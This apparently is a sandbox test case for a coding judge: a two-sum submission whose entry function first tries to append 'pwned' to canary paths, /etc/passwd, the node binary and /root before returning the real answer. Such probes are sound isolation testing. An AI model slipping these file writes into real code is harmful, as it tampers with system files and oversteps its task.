// expect: accepted
const fs = require('fs');

function solve(nums, target) {
  const seen = new Map();
  for (let j = 0; j < nums.length; j++) {
    if (seen.has(target - nums[j])) return [seen.get(target - nums[j]), j];
    seen.set(nums[j], j);
  }
  return [];
}

function twoSum(nums, target) {
  for (const p of ['__CANARY_PATH__', '__PROJECT_ENV__', '/etc/passwd', '/usr/bin/node', '/root/x']) {
    try { fs.appendFileSync(p, 'pwned\n'); return []; } catch (e) {}
  }
  return solve(nums, target);
}
